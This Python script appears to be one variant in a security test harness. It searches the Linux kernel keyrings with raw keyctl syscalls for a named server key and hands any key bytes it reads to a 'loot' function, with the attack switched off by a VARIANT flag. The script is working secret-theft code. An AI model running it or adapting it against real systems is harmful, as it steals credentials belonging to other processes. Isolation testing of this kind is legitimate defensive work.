"""Searches the kernel's keyrings for the server's key."""

from __future__ import annotations

import ctypes

import kit

VARIANT = 0


def attack(out: str) -> None:
    def search() -> None:
        buffer = ctypes.create_string_buffer(256)
        for ring in (-3, -4, -5, -2, -1):
            with kit.step(f"keyring {ring}"):
                key = kit.syscall(250, 219, 10, ring, b"user", kit.TARGETS["key_name"].encode(), 0)
                size = kit.syscall(250, 219, 11, key, buffer, 256, 0)
                kit.loot(buffer.raw[:size])

    kit.child(search)


out_dir = kit.begin()
if VARIANT == 1:
    attack(out_dir)
kit.finish(out_dir, VARIANT)
